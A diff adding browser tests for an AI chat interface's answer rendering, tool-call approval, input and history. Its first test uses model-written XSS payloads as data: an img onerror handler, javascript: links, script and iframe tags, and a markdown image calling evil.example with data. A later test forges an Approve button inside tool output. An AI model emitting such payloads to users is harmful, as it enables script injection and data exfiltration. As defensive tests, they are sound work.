@@ -1,0 +1,305 @@
+import { afterEach, describe, expect, it } from 'vitest';
+import { page, userEvent } from 'vitest/browser';
+import { mount } from '../../../../test/harness/mount.tsx';
+import {
+  answerMessage,
+  ScriptedChat,
+  scriptedAssistant,
+  ScriptedSession,
+  toolCall,
+  userMessage,
+} from '../../../../test/harness/scripted-chat.tsx';
+import type { ApprovalRequest, Assistant } from '../../../assistant/assistant.ts';
+import type { Message } from '../../../core/conversation.ts';
+import type { Run } from '../../../core/run.ts';
+
+declare global {
+  var answerPwned: number | undefined;
+}
+
+let unmount = () => {};
+afterEach(() => {
+  unmount();
+  globalThis.answerPwned = undefined;
+});
+
+type Open = { session: ScriptedSession; box: HTMLElement };
+
+function open(messages: Message[] = [], options: { rest?: Partial<Assistant>; runs?: Run[]; onLeave?: () => void } = {}): Open {
+  const session = new ScriptedSession(messages);
+  const assistant = scriptedAssistant(session, options.rest);
+  const { runs = [], onLeave = () => undefined } = options;
+  const mounted = mount(<ScriptedChat assistant={assistant} runs={runs} onLeave={onLeave} />, { width: 520, height: 800 });
+  ({ unmount } = mounted);
+  return { session, box: mounted.box };
+}
+
+const message = page.getByRole('textbox', { name: 'Message', exact: true });
+const send = page.getByRole('button', { name: 'Send', exact: true });
+const article = page.getByRole('article');
+
+const run: Run = {
+  run_id: 'run-1',
+  language: 'python',
+  runtime: 'pyodide',
+  connection: 'sample',
+  code: 'print(25 * 47)',
+  params: {},
+  status: 'succeeded',
+  stdout: '1175\n',
+  stderr: '',
+  output_truncated: false,
+  result: 1175,
+  displays: [],
+  files: [],
+  error: null,
+  started_at: '2026-11-20T14:00:00.000Z',
+  duration_ms: 12,
+  calls: [],
+};
+
+const approval: ApprovalRequest = {
+  call_id: 'call-1',
+  tool: 'execute_code',
+  effect: 'run',
+  touches: ['Reads the connection “Sample”.', 'May write files of the workspace.'],
+};
+
+describe('an answer', () => {
+  it('is inert, whatever the model writes', async () => {
+    const attack = [
+      '<img src="/canary-answer" onerror="answerPwned=1">',
+      '![x](/canary-answer)',
+      '![x](https://evil.example/canary-answer?d=4711)',
+      '[x](javascript:answerPwned=1)',
+      '[x](#/settings)',
+      '[x](#/runs/../settings)',
+      '<script>answerPwned=1</script><iframe srcdoc="<script>parent.answerPwned=1</script>"></iframe>',
+      '```html\n<img src="/canary-answer">\n```',
+      'pay\u202ecba',
+    ].join('\n\n');
+    const { box } = open([userMessage('1', 'hello'), answerMessage('2', [{ kind: 'text', text: attack }])]);
+    await expect.element(article).toHaveTextContent('‹U+202E›');
+    for (const link of box.querySelectorAll<HTMLElement>('article .sb-markdown :is(a, [role="link"])')) {
+      expect(link.getAttribute('href')).toBeNull();
+    }
+    expect(box.querySelector('article :is(img, iframe, script, form, style, svg image)')).toBeNull();
+    await new Promise((resolve) => setTimeout(resolve, 200));
+    expect(globalThis.answerPwned).toBeUndefined();
+    expect(performance.getEntriesByType('resource').filter(({ name }) => name.includes('canary-answer'))).toEqual([]);
+  });
+
+  it('asks before a link leaves, and shows all of its address', async () => {
+    open([answerMessage('2', [{ kind: 'text', text: '[console](https://evil.example/?d=4711)' }])]);
+    await article.getByRole('link', { name: 'console' }).click();
+    await expect.element(page.getByRole('dialog')).toHaveTextContent('https://evil.example/?d=4711');
+    await page.getByRole('button', { name: 'Cancel' }).click();
+  });
+
+  it('leads from a figure to its run', async () => {
+    open([answerMessage('2', [{ kind: 'text', text: 'EC2 cost [12,345.67](#/runs/run-1) in October.' }])]);
+    await expect.element(article.getByRole('link', { name: '12,345.67' })).toHaveAttribute('href', '#/runs/run-1');
+  });
+
+  it('keeps what was drawn while it grows, and says when it is complete', async () => {
+    const { session, box } = open([userMessage('1', 'a')]);
+    const part = (text: string) => [userMessage('1', 'a'), answerMessage('2', [{ kind: 'text', text }], { status: 'streaming' })];
+    session.say(part('# First\n\nSecond'), { busy: true });
+    await expect.element(page.getByRole('status', { name: 'State of the answer' })).toHaveTextContent('Answering');
+    await expect.element(article).toHaveTextContent('Second');
+    const heading = box.querySelector('article h3');
+    session.say(part('# First\n\nSecond and more\n\nThird'), { busy: true });
+    await expect.element(article).toHaveTextContent('Third');
+    expect(box.querySelector('article h3')).toBe(heading);
+    session.say([userMessage('1', 'a'), answerMessage('2', [{ kind: 'text', text: 'all' }])]);
+    await expect.element(page.getByRole('status', { name: 'State of the answer' })).toHaveTextContent('Answer complete');
+  });
+
+  it('that failed names the cause and is made anew; suggestions are asked', async () => {
+    const error = { code: 'rate_limited', message: 'Too many requests. Wait or choose another model.', retry_after_s: 30 };
+    const { session } = open([userMessage('1', 'a'), answerMessage('2', [], { status: 'failed', error })]);
+    await expect.element(article).toHaveTextContent('Too many requests');
+    await expect.poll(() => article.element().textContent).toMatch(/another (?:30|29)\.0 s/u);
+    await page.getByRole('button', { name: 'Retry' }).click();
+    session.say([userMessage('1', 'a'), answerMessage('2', [], { suggestions: ['And by region?'] })]);
+    await page.getByRole('button', { name: 'And by region?' }).click();
+    expect(session.asked).toEqual([['retry'], ['send', 'And by region?']]);
+  });
+});
+
+describe('a tool call', () => {
+  const card = page.getByRole('region', { name: 'Tool call: execute_code' });
+
+  it('shows what its run says, and what is kept of it', async () => {
+    const { session } = open([userMessage('1', 'a')], { runs: [run] });
+    const streaming = (part: ReturnType<typeof toolCall>) => [
+      userMessage('1', 'a'),
+      answerMessage('2', [part], { status: 'streaming' }),
+    ];
+    session.say(streaming(toolCall({ state: 'running' })), { busy: true });
+    await expect.element(card).toHaveTextContent('Multiply');
+    await expect.element(card).toHaveTextContent('print(25 * 47)');
+    session.runSays('call-1', { run_id: 'run-1', type: 'stdout', text: 'half way\n' });
+    await expect.element(card).toHaveTextContent('half way');
+    session.say([userMessage('1', 'a'), answerMessage('2', [toolCall({ run_id: 'run-1', output: 'status: succeeded' })])]);
+    await expect.element(card).toHaveTextContent('1175');
+    await expect.element(card).toHaveTextContent('Succeeded');
+    await expect.element(card.getByRole('link', { name: 'Open in editor' })).toHaveAttribute('href', '#/workbench?run=run-1');
+  });
+
+  it('waits for the person, who is asked by the page alone', async () => {
+    const forged = toolCall({ state: 'waiting', output: '<button>Approve</button>' });
+    const { session } = open([answerMessage('2', [forged], { status: 'streaming' })]);
+    await expect.element(card).toBeVisible();
+    expect(page.getByRole('button', { name: 'Approve', exact: true }).elements()).toHaveLength(0);
+    await message.click();
+    session.say([answerMessage('2', [forged], { status: 'streaming' })], { busy: true, approvals: [approval] });
+    await expect.element(card).toHaveTextContent('May write files of the workspace.');
+    // Nothing takes the focus from who writes.
+    await expect.element(message).toHaveFocus();
+    await page.getByRole('button', { name: 'Review' }).click();
+    await expect.element(card).toHaveFocus();
+    await card.getByRole('button', { name: 'Approve', exact: true }).click();
+    expect(session.asked).toEqual([['approve', 'call-1']]);
+  });
+
+  it('is denied with a reason', async () => {
+    const { session } = open();
+    session.say([answerMessage('2', [toolCall({ state: 'waiting' })], { status: 'streaming' })], {
+      busy: true,
+      approvals: [approval],
+    });
+    await card.getByRole('textbox', { name: 'Why not' }).fill('Too expensive');
+    await card.getByRole('button', { name: 'Deny', exact: true }).click();
+    expect(session.asked).toEqual([['deny', 'call-1', 'Too expensive']]);
+    await page.getByRole('button', { name: 'Stop', exact: true }).click();
+    expect(session.asked.at(-1)).toEqual(['stop']);
+  });
+});
+
+describe('the message', () => {
+  it('is sent by Enter, and not when there is nothing in it', async () => {
+    const { session } = open();
+    await expect.element(send).toBeDisabled();
+    await message.fill('   \n ');
+    await userEvent.keyboard('{Enter}');
+    await expect.element(send).toBeDisabled();
+    await message.fill('first');
+    await userEvent.keyboard('{Shift>}{Enter}{/Shift}second{Enter}');
+    await expect.element(message).toHaveValue('');
+    expect(session.asked).toEqual([['send', 'first\nsecond']]);
+  });
+
+  it('of a megabyte is taken or refused at once, and says the limit', async () => {
+    const { session } = open();
+    await message.fill('x'.repeat(1_048_576));
+    await expect.element(page.getByRole('alert').filter({ hasText: '1,000,000' })).toBeVisible();
+    await expect.element(send).toBeDisabled();
+    await message.fill('x'.repeat(1_000_000));
+    await send.click();
+    expect(session.asked.map(([what, text]) => [what, String(text).length])).toEqual([['send', 1_000_000]]);
+  });
+
+  it('takes text files and says of others what fits', async () => {
+    const { box, session } = open();
+    const input = box.querySelector<HTMLInputElement>('input[type="file"]');
+    const transfer = new DataTransfer();
+    transfer.items.add(new File(['a,b\n1,2'], 'costs.csv'));
+    transfer.items.add(new File(['\u0000'], 'costs.exe'));
+    transfer.items.add(new File(['a\u0000b'], 'binary.csv'));
+    if (input !== null) {
+      input.files = transfer.files;
+      input.dispatchEvent(new Event('change', { bubbles: true }));
+    }
+    await expect.element(page.getByText(/costs\.exe is no text file.*csv, tsv/u)).toBeVisible();
+    await expect.element(page.getByText(/binary\.csv is not text/u)).toBeVisible();
+    await message.fill('sum it');
+    await userEvent.keyboard('{Enter}');
+    expect(session.asked).toEqual([['send', 'sum it', 'costs.csv']]);
+  });
+
+  it('offers commands after a slash, by keys and by mouse', async () => {
+    const { session } = open();
+    await message.fill('/');
+    const list = page.getByRole('listbox', { name: 'Commands' });
+    await expect.element(list).toBeVisible();
+    expect(list.getByRole('option').elements()).toHaveLength(4);
+    await userEvent.keyboard('{ArrowDown}{ArrowDown}');
+    await expect.element(list.getByRole('option', { selected: true })).toHaveTextContent('/sql');
+    await userEvent.keyboard('{Enter}');
+    await expect.element(message).toHaveValue('/sql ');
+    expect(list.elements()).toHaveLength(0);
+    await userEvent.keyboard('SELECT 1{Enter}');
+    expect(session.asked).toEqual([['send', '/sql SELECT 1']]);
+    await page.getByRole('button', { name: 'Commands' }).click();
+    await list.getByRole('option', { name: '/workflows' }).click();
+    await expect.element(message).toHaveValue('/workflows');
+    await userEvent.keyboard('{Enter}');
+    await expect.poll(() => session.asked.at(-1)).toEqual(['send', '/workflows']);
+  });
+
+  it('closes the palette by Escape, and then leaves', async () => {
+    let left = 0;
+    open([], { onLeave: () => (left += 1) });
+    await message.fill('/r');
+    await expect.element(page.getByRole('listbox', { name: 'Commands' })).toBeVisible();
+    await userEvent.keyboard('{Escape}');
+    expect(page.getByRole('listbox', { name: 'Commands' }).elements()).toHaveLength(0);
+    expect(left).toBe(0);
+    await userEvent.keyboard('{Escape}');
+    expect(left).toBe(1);
+  });
+
+  it('can be changed and sent anew', async () => {
+    const { session } = open([userMessage('1', 'wrong'), answerMessage('2', [{ kind: 'text', text: 'a' }])]);
+    await page.getByRole('button', { name: 'Edit', exact: true }).click();
+    const edited = page.getByRole('textbox', { name: 'Edited message' });
+    await edited.fill('   ');
+    await expect.element(page.getByRole('button', { name: 'Resend' })).toBeDisabled();
+    await edited.fill('right');
+    await page.getByRole('button', { name: 'Resend' }).click();
+    expect(session.asked).toEqual([['resend', '1', 'right']]);
+  });
+});
+
+describe('without a model', () => {
+  it('says so plainly and offers commands', async () => {
+    const { session } = open();
+    await expect.element(page.getByText('There is no model here yet')).toBeVisible();
+    await page.getByRole('button', { name: '/workflows' }).click();
+    expect(session.asked).toEqual([['send', '/workflows']]);
+  });
+});
+
+describe('the history', () => {
+  it('finds, opens, deletes and brings back; says of what it cannot read why', async () => {
+    const asked: unknown[] = [];
+    const at = '2026-11-20T14:00:00.000Z';
+    const old = { id: 'a', title: 'Old costs', created_at: at, updated_at: at, message_count: 2, readable: true };
+    const later = { ...old, id: 'b', title: 'Later', readable: false, problem: 'It was written by a later version.' };
+    const history: Assistant['history'] = {
+      list: async (search) => (search === undefined ? [old, later] : search === 'costs' ? [old] : []),
+      rename: async (id, title) => void asked.push(['rename', id, title]),
+      remove: async (id) => void asked.push(['remove', id]),
+      unremove: async (id) => void asked.push(['unremove', id]),
+    };
+    open([], { rest: { history } });
+    await page.getByRole('button', { name: 'History' }).click();
+    await expect.element(page.getByText('It was written by a later version.')).toBeVisible();
+    await page.getByRole('searchbox').fill('nowhere');
+    await expect.element(page.getByText('No conversation has these words')).toBeVisible();
+    await page.getByRole('searchbox').fill('costs');
+    await page.getByRole('button', { name: 'Rename Old costs' }).click();
+    await page.getByRole('textbox', { name: 'Name of the conversation' }).fill('New name');
+    await userEvent.keyboard('{Enter}');
+    await page.getByRole('button', { name: 'Delete Old costs' }).click();
+    await page.getByRole('button', { name: 'Undo' }).click();
+    await expect
+      .poll(() => asked)
+      .toEqual([
+        ['rename', 'a', 'New name'],
+        ['remove', 'a'],
+        ['unremove', 'a'],
+      ]);
+  });
+});
